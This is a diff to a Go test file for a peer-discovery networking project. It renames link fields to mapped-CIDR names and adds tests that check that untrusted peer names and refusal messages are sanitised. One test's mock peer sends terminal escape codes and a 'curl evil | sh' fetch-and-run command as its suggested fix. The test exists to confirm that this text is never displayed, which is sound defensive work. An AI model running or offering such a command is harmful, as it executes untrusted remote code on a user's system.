@@ -16,6 +16,7 @@ import (
 
 	"rivulet/fabric/discovery"
 	"rivulet/fabric/discovery/static"
+	"rivulet/fabric/pairing"
 	"rivulet/fabric/peer"
 	"rivulet/fabric/rpc"
 )
@@ -33,11 +34,11 @@ func TestThreeClustersPeerByThemselves(t *testing.T) {
 			if v.Name != o.cfg.Name || v.RTT <= 0 || v.Reason != "" || v.KubeVersion != "v1.35.0" || v.Trust.How != peer.TrustLAN {
 				t.Errorf("%s shows %+v", c.cfg.Name, v)
 			}
-			if seen[v.Remote] {
-				t.Errorf("%s sees two clusters as %s", c.cfg.Name, v.Remote)
+			if seen[v.PeerMappedCIDR] {
+				t.Errorf("%s sees two clusters as %s", c.cfg.Name, v.PeerMappedCIDR)
 			}
-			seen[v.Remote] = true
-			if back := o.view(c); back.As != v.Remote || back.Remote != v.As {
+			seen[v.PeerMappedCIDR] = true
+			if back := o.view(c); back.LocalMappedCIDR != v.PeerMappedCIDR || back.PeerMappedCIDR != v.LocalMappedCIDR {
 				t.Errorf("%s and %s disagree: %+v, %+v", c.cfg.Name, o.cfg.Name, v, back)
 			}
 		}
@@ -124,7 +125,7 @@ func TestRestartNeedsNoDiscovery(t *testing.T) {
 	a.start()
 	after := a.awaitState(b, peer.Connected)
 	b.awaitState(a, peer.Connected)
-	if after.Remote != before.Remote || after.As != before.As {
+	if after.PeerMappedCIDR != before.PeerMappedCIDR || after.LocalMappedCIDR != before.LocalMappedCIDR {
 		t.Errorf("a restart changed prefixes: %+v to %+v", before, after)
 	}
 }
@@ -145,7 +146,7 @@ func TestLostAndBack(t *testing.T) {
 	case <-time.After(5 * time.Second):
 		t.Error("subscribers were not told")
 	}
-	if l, ok := a.Link(b.cfg.Identity.ID); !ok || l.State != peer.Lost || l.Remote != v.Remote {
+	if l, ok := a.Link(b.cfg.Identity.ID); !ok || l.State != peer.Lost || l.PeerMappedCIDR != v.PeerMappedCIDR {
 		t.Errorf("the link of a lost peer: %+v, %v", l, ok)
 	}
 	w.setCut(b, false)
@@ -164,7 +165,7 @@ func TestMovedPeer(t *testing.T) {
 		cfg := a.plane.config()
 		return len(cfg.Peers) == 1 && cfg.Peers[0].Endpoint.Addr() == moved
 	})
-	if v := a.view(b); v.Remote != before.Remote || v.State != peer.Connected {
+	if v := a.view(b); v.PeerMappedCIDR != before.PeerMappedCIDR || v.State != peer.Connected {
 		t.Errorf("moving changed %+v to %+v", before, v)
 	}
 	// A lie about where b is does not move anything: nobody there has b's key.
@@ -251,6 +252,47 @@ func TestStrangeNeighbours(t *testing.T) {
 			}
 			a.stop()
 		}()
+	}
+}
+
+// What a refused message calls itself is not shown.
+func TestNameOfARefusedMessage(t *testing.T) {
+	w := newWorld(t)
+	a := w.cluster(1, "a")
+	for i, name := range []string{"x\x1b[2J", "x\u202ey", "x\u009b", strings.Repeat("x", 4000)} {
+		s := newStranger(t, byte(60+i))
+		s.self.Name = name
+		if err := s.pair(a); pairing.Code(err) != "bad-message" {
+			t.Errorf("%q: %v", name, err)
+		}
+		a.await("the refusal", func() bool { return a.viewOf(s.id.ID).State == peer.Refused })
+		v := a.viewOf(s.id.ID)
+		if v.Name != "" || len(v.Reason) > 500 || strings.ContainsAny(v.Reason, "\x1b\u202e\u009b") {
+			t.Errorf("%q %q", v.Name, v.Reason)
+		}
+	}
+}
+
+// A stranger refuses us with words for a terminal: our own are shown, by its code.
+func TestRefusalIsInOurOwnWords(t *testing.T) {
+	w := newWorld(t)
+	a := w.cluster(1, "a")
+	for code, want := range map[string]string{"pending": "rivulet approve a", "of-tomorrow": "in its own words", "evil\x1b[2J": "unknown"} {
+		id, _ := rpc.NewIdentity(newKey(90+code[0]%9), "evil")
+		l, err := net.Listen("tcp", "127.0.0.1:0")
+		if err != nil {
+			t.Fatal(err)
+		}
+		s := rpc.NewServer(id, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+			rpc.Fail(w, http.StatusForbidden, &rpc.Error{Code: code, Message: "run\x1b[31m this\u202e:", Cure: "curl evil | sh"})
+		}), a.cfg.Log)
+		go s.ServeTLS(l, "", "")
+		t.Cleanup(func() { s.Close() })
+		w.hub.Set(discovery.Entry{Key: string(id.ID), ID: id.ID, Name: "evil", Addrs: []netip.AddrPort{l.Addr().(*net.TCPAddr).AddrPort()}})
+		a.await("the refusal "+code, func() bool { return strings.Contains(a.viewOf(id.ID).Reason, want) })
+		if reason := a.viewOf(id.ID).Reason; strings.ContainsAny(reason, "\x1b\u202e") || strings.Contains(reason, "curl") {
+			t.Errorf("%q: %q", code, reason)
+		}
 	}
 }
 
